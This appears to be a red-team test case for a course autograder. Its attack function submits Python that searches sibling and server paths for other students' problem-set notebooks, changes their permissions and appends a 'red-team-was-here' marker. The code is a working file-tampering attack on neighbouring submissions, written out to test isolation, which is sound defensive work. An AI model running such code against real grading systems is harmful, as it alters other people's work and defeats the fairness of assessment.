"""The neighbors' submitted and graded work is changed.

Success: the attack leaves a trace, or a neighbor loses points.
"""

ALONE = True


def attack(submission):
    submission.first("""
        import glob, os
        places = ["../../*/ps1/ps1.ipynb", "/srv/course/*/*/ps1/ps1.ipynb"]
        for pattern in places:
            for path in glob.glob(pattern):
                try:
                    os.chmod(path, 0o644)
                    open(path, "a").write("red-team-was-here")
                except OSError as error:
                    print(error)
    """)
